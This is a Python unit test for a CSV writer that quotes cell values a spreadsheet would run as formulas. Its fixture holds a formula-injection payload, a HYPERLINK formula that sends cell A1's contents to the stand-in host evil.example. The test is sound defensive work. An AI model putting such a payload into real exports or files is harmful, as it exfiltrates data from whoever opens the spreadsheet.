"""Unit: the one CSV writer every export uses quotes what a spreadsheet would run as a formula."""

import csv
from datetime import UTC, datetime

from sdr_assets.csv_files import inert, write_csv


def test_text_a_spreadsheet_would_run_gets_a_leading_quote_and_nothing_else_changes(tmp_path):
    assert [inert(v) for v in ("=1+2", "+1", "-2+3", "@SUM(A1)", "\t=cmd", "\r=cmd")] == [
        "'=1+2", "'+1", "'-2+3", "'@SUM(A1)", "'\t=cmd", "'\r=cmd"]
    assert [inert(v) for v in ("Jane", "a=b", " =x", "", None, -2, 1.5)] == ["Jane", "a=b", " =x", "", None, -2, 1.5]
    path = tmp_path / "out.csv"
    moment = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)
    rows = [{"name": '=HYPERLINK("http://evil.example/?x="&A1,"Calendar")', "email": "=2+5@evil.example",
             "hours": -1.5, "at": moment, "extra": "ignored"}, {"name": "Jane"}]
    assert write_csv(path, ("name", "email", "hours", "at"), rows) == 2
    with path.open(newline="", encoding="utf-8") as fh:
        read = list(csv.DictReader(fh))
    assert read == [{"name": '\'=HYPERLINK("http://evil.example/?x="&A1,"Calendar")', "email": "'=2+5@evil.example",
                     "hours": "-1.5", "at": str(moment)}, {"name": "Jane", "email": "", "hours": "", "at": ""}]
